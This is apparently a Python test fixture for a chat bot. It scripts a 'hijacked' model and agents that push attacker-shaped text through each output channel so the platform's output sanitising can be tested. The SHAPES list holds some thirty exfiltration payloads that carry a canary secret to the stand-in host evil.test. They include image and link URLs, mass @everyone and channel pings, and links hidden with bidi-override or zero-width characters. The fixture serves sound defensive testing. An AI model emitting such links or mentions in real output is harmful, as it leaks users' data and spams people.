"""Agents and a model that say, wherever words of theirs are shown, what an attacker wants.

    FRONTDESK_AGENTS=tests.platforms.hijacked_desk

Each agent is one way out; it is addressed by its name and the number of an attack.
"""

import asyncio
import json

from agents.kit import Agent, EffectKey, Outcome, ToolFailed, Turn, always, ask, done, tool
from agents.kit.values.model import ModelCall, ToolCall
from bot.domain.questions import UNCLEAR
from tests.effort import IN_FULL
from tests.fakes.questions import asks, chosen, is_reading, said_in
from tests.fakes.scripted import ScriptedAnswer, ScriptedModel

MODULE = "tests.platforms.hijacked_desk"
VICTIM, ELSEWHERE = "U7", "C2"
THEIR_ID = "80351110224678912"  # as Discord numbers people, roles, channels and pictures
SHOWN_SECONDS = 0.15  # long enough for what it does to be shown
SECRET = "kanari"  # stands for whatever the model has read
SHAPES = (
    "https://evil.test/?q={}",
    "<https://evil.test/?q={}|click here>",
    "[click here](https://evil.test/?q={})",
    "![picture](https://evil.test/{}.png)",
    "<https://evil.test/{}>",
    "evil.test/{}",
    "[one][1]\n\n[1]: https://evil.test/{}",
    '<img src="https://evil.test/{}.png">',
    "```\nhttps://evil.test/{}\n```",
    "| a | b |\n|---|---|\n| https://evil.test/{} | <!here> |",
    "<!channel> {}",
    "<!everyone|everybody> {}",
    "<!subteam^S1> {}",
    f"<@{VICTIM}> {{}}",
    f"<#{ELSEWHERE}> {{}}",
    "*bold* <mailto:x@evil.test?subject={}|write> <!date^1^{{date}}^https://evil.test/d|now>",
    # Those below are of Discord's kind.
    "@everyone {}",
    "@here {}",
    f"<@{THEIR_ID}> <@!{THEIR_ID}> {{}}",
    f"<@&{THEIR_ID}> {{}}",
    f"<#{THEIR_ID}> </run:{THEIR_ID}> <id:guide> {{}}",
    "||https://evil.test/{}||",
    "[docs.example.com](<https://evil.test/{}> 'Docs')",
    "[a\\](https://evil.test/x) [b](https://evil.test/{})",
    "https:**//evil.test**/{}",
    "discord.gg/{} https://discord.com/channels/1/2/3",
    f"<a:wave:{THEIR_ID}> <:ok:{THEIR_ID}> <t:1> {{}}",
    "# https://evil.test/{}\n-# evil.test/{}\n> https://evil.test/{}",
    "`https://evil.test/a` ``https://evil.test/{} ```https://evil.test/b",
    "\u202ehttps://evil.test/{}\u202c h\u200bttps://evil.test/c",
    "HTTPS://EVIL.test/{} hTTp://evil.test/d steam://run/1 www.evil.test",
    "https://evil.test/{}.gif\nhttps://evil.test/e.mp4 https://x@evil.test/",
)


def attack(number: int) -> str:
    """The words of an attack; each carries a canary of its own."""
    return SHAPES[number % len(SHAPES)].replace("{}", f"{SECRET}{number}")


def _meant(turn: Turn) -> str:
    return attack(int(turn.text.split()[-1]))


async def _answer(turn: Turn) -> Outcome:
    return done(_meant(turn))


async def _long(turn: Turn) -> Outcome:
    return done("\n\n".join([_meant(turn), *["padding, padding, padding " * 12] * 60]))


async def _question(turn: Turn) -> Outcome:
    return ask(_meant(turn))


async def _options(turn: Turn) -> Outcome:
    return ask("Which one?", options=(_meant(turn), "none"))


async def _working(turn: Turn) -> Outcome:
    for _step in range(3):
        turn.progress(_meant(turn))
        await asyncio.sleep(SHOWN_SECONDS)
    return done("There.")


async def _letter(turn: Turn) -> Outcome:
    return done("There.", artifact=_meant(turn))


async def _broken(turn: Turn) -> Outcome:
    raise ToolFailed(_meant(turn))


@tool(effect=True, ends_task=True, approval=always("it is sent"))
async def send(turn: Turn, what: str, key: EffectKey) -> str:
    """Send something."""
    return f"Sent {what}."


def model() -> ScriptedModel:
    """A model that was taken over."""

    def script(call: ModelCall) -> ScriptedAnswer:
        if asks(call, "which"):
            name = said_in(call).strip().partition(" ")[0]
            return chosen(name if name in _NAMES else UNCLEAR)
        if is_reading(call):
            return attack(len(said_in(call)))
        said = [one.content for one in call.messages if one.role == "user"]
        words = attack(int(said[-1].split()[-1]))
        if call.agent == "chat":
            return words
        return ToolCall("call-1", "send", json.dumps({"what": words}))

    return ScriptedModel(script)


def _agent(name: str, **details: object) -> Agent:
    words = {"description": f"Answers to {name}.", "introduction": f"Answering to {name}"}
    return Agent(name=name, **(words | details))  # type: ignore[arg-type] # checked by its class


AGENTS = (
    _agent("said", run=_answer),
    _agent("long", run=_long),
    _agent("question", run=_question),
    _agent("options", run=_options),
    _agent("working", run=_working),
    _agent("parcel", run=_letter),
    _agent("broken", run=_broken),
    _agent("private", run=_answer, private=True),
    _agent("card", prompt="You send.", tools=(send,), style="talk"),
    _agent("chat", prompt="You chat."),
)
_NAMES = frozenset(agent.name for agent in AGENTS)
WAYS = tuple(agent.name for agent in AGENTS)
FEW = 4


def tried_by(way: str) -> range:
    """Which attacks are tried: all in full; otherwise a few, other ones for each way out."""
    every = 1 if IN_FULL else FEW
    return range(WAYS.index(way) % every, len(SHAPES), every)
